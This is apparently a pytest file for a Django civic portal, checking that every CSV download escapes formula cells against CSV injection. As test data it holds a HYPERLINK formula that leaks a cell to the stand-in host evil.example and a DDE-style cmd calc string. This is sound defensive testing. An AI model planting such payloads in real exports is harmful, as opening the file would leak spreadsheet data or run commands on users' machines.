"""No CSV the portal serves can carry a formula into a spreadsheet (CSV injection).

Every CSV download is found by walking the URL resolver (a route or a name ending in csv, and the
open-data files, which stream any dataset as CSV); each is fetched with a hostile text in one of
its rows, by someone allowed to download it. The hostile cell comes back as text with a leading
apostrophe, and numbers, negative ones included, come back as numbers."""

import csv
import io
from datetime import date
from decimal import Decimal

import pytest
from django.urls import URLPattern, URLResolver, get_resolver, reverse

from dashboard import services as report_services
from learningcity import csv_export
from learningcity.csv_export import FORMULA_STARTS, NUMBER, safe_cell
from learningcity.registry import Dataset, Distribution, registry
from monitoring import surveys
from planning.models import ActionPlan
from tests.events.factories import EventFactory, RegistrationFactory
from tests.funding.factories import AllocationFactory, ContributionFactory
from tests.monitoring.factories import (
    IndicatorFactory,
    QuestionFactory,
    SurveyFactory,
    approved_value,
)
from tests.planning.factories import ActionFactory, ActionPlanFactory

pytestmark = pytest.mark.usefixtures("reference_data")

HOSTILE = '=HYPERLINK("http://evil.example/?leak="&A1,"Clic")'
NEUTRALISED = "'" + HOSTILE
# Routes that serve CSV among other formats, their names not saying so.
STREAMED_AS_CSV = {"open_data_files:download"}


def csv_routes(patterns=None, namespace="", prefix=""):
    """(name, route) of every CSV download: routes or names ending in csv, and the open-data
    files, whose `<key>.<form>` serves any dataset as CSV."""
    for pattern in get_resolver().url_patterns if patterns is None else patterns:
        if isinstance(pattern, URLResolver):
            inner = f"{namespace}{pattern.namespace}:" if pattern.namespace else namespace
            yield from csv_routes(pattern.url_patterns, inner, prefix + str(pattern.pattern))
        elif isinstance(pattern, URLPattern) and pattern.name:
            name, route = f"{namespace}{pattern.name}", prefix + str(pattern.pattern)
            csv_named = route.lower().endswith("csv") or name.lower().endswith("csv")
            if csv_named or name in STREAMED_AS_CSV:
                yield name, route


# Each export: a hostile row in its data, and the URL to fetch it from (by Carol, who coordinates).
def plan_export(carol):
    ActionFactory(
        title=HOSTILE, objective__plan=ActionPlanFactory(status=ActionPlan.Status.ADOPTED)
    )
    return reverse("planning:plan-csv")


def plan_version_export(carol):
    draft = ActionPlanFactory(status=ActionPlan.Status.DRAFT)
    ActionFactory(title=HOSTILE, objective__plan=draft)
    return reverse("planning:version-csv", args=[draft.pk])


def attendees_export(carol):
    registration = RegistrationFactory(name=HOSTILE, event=EventFactory())
    return reverse("events:attendees", args=[registration.event.slug])


def indicator_values_export(carol):
    indicator = IndicatorFactory(name=HOSTILE, unit="-personas")
    approved_value(indicator, 2025, "-3.5")
    return reverse("monitoring:values-csv", args=[indicator.pk])


def survey_answers_export(carol):
    survey = SurveyFactory()
    question = QuestionFactory(survey=survey, text="¿Algo más?", kind="text", order=1)
    surveys.survey_answer(
        survey=survey, user=None, token="t", answers={question: HOSTILE}, today=survey.opens_on
    )
    return reverse("monitoring:survey-csv", args=[survey.pk])


def contributions_export(carol):
    ContributionFactory(description=HOSTILE)
    return reverse("funding:contributions_csv")


def allocations_export(carol):
    AllocationFactory(note=HOSTILE)
    return reverse("funding:allocations_csv")


def report_figures_export(carol):
    ActionFactory(
        objective__plan=ActionPlanFactory(
            status=ActionPlan.Status.ADOPTED, title=HOSTILE, attractive_title=HOSTILE
        ),
        objective__title=HOSTILE,
    )
    report = report_services.report_create(
        by=carol,
        title="Informe",
        scope="city",
        language="es",
        period_start=date(2026, 1, 1),
        period_end=date(2026, 12, 31),
    )
    return reverse("reports:figures-csv", args=[report.pk])


def open_data_export(carol, monkeypatch):
    """A dataset like any area's, streamed by /open-data/ as every dataset is."""
    hostile = Dataset(
        key="hostile",
        title="Hostile",
        description="",
        area="core",
        distributions=(Distribution("csv", "text/csv"),),
        modified=lambda: None,
        columns=("name", "count", "change"),
        rows=lambda: [{"name": HOSTILE, "count": 3, "change": Decimal("-2.5")}],
    )
    monkeypatch.setitem(registry.datasets, "zz-hostile", lambda: [hostile])
    return reverse("open_data_files:download", args=["hostile", "csv"])


EXPORTS = {
    "planning:plan-csv": plan_export,
    "planning:version-csv": plan_version_export,
    "events:attendees": attendees_export,
    "monitoring:values-csv": indicator_values_export,
    "monitoring:survey-csv": survey_answers_export,
    "funding:contributions_csv": contributions_export,
    "funding:allocations_csv": allocations_export,
    "reports:figures-csv": report_figures_export,
    "open_data_files:download": open_data_export,
}


def read_cells(response):
    text = b"".join(response.streaming_content if response.streaming else [response.content])
    rows = list(csv.reader(io.StringIO(text.decode("utf-8-sig"))))
    return [cell for row in rows for cell in row]


def test_every_csv_download_of_the_project_is_checked_here():
    found = dict(csv_routes())
    assert set(found) == set(EXPORTS), (
        "a CSV download was added or removed: give it a hostile row in EXPORTS "
        f"(found {sorted(found.items())})"
    )


@pytest.mark.parametrize("name", sorted(EXPORTS))
def test_a_hostile_cell_comes_back_as_text_in_every_csv_download(
    name, client_for, carol, monkeypatch
):
    make = EXPORTS[name]
    url = make(carol, monkeypatch) if name == "open_data_files:download" else make(carol)
    response = client_for(carol).get(url)
    assert response.status_code == 200, url
    assert response["Content-Type"].startswith("text/csv")
    cells = read_cells(response)
    assert NEUTRALISED in cells
    formulas = [
        cell for cell in cells if cell.startswith(FORMULA_STARTS) and not NUMBER.fullmatch(cell)
    ]
    assert formulas == []


def test_negative_numbers_stay_numbers(client_for, carol):
    cells = read_cells(client_for(carol).get(indicator_values_export(carol)))
    assert "-3.5" in cells
    assert "'-personas" in cells


@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_every_formula_start_is_escaped(start):
    assert safe_cell(f"{start}cmd|' /C calc'!A0") == f"'{start}cmd|' /C calc'!A0"


@pytest.mark.parametrize(
    "value", [-5, Decimal("-12.50"), 3.25, "-3.5", "+7", "-1e3", "Museo", "a=b", "", None]
)
def test_numbers_and_plain_text_are_left_alone(value):
    assert safe_cell(value) == value


@pytest.mark.parametrize("value", ["-1+1", "-3.5)", "+A1", "-", "@SUM(A1)", "-2\r"])
def test_text_that_only_starts_like_a_number_is_escaped(value):
    assert safe_cell(value) == "'" + value


def test_the_writer_writes_numbers_as_numbers_and_escapes_text():
    out = io.StringIO()
    writer = csv_export.writer(out)
    writer.writerow([HOSTILE, -5, Decimal("-1.50"), "@x"])
    assert (
        out.getvalue()
        == '"\'=HYPERLINK(""http://evil.example/?leak=""&A1,""Clic"")",-5,-1.50,\'@x\r\n'
    )


def test_the_dict_writer_escapes_text_and_refuses_unknown_columns():
    out = io.StringIO()
    writer = csv_export.dict_writer(out, ["name", "value"])
    writer.writeheader()
    writer.writerow({"name": "+1-1", "value": Decimal("-2")})
    assert out.getvalue() == "name,value\r\n'+1-1,-2\r\n"
    with pytest.raises(ValueError, match="surname"):
        writer.writerow({"surname": "x"})
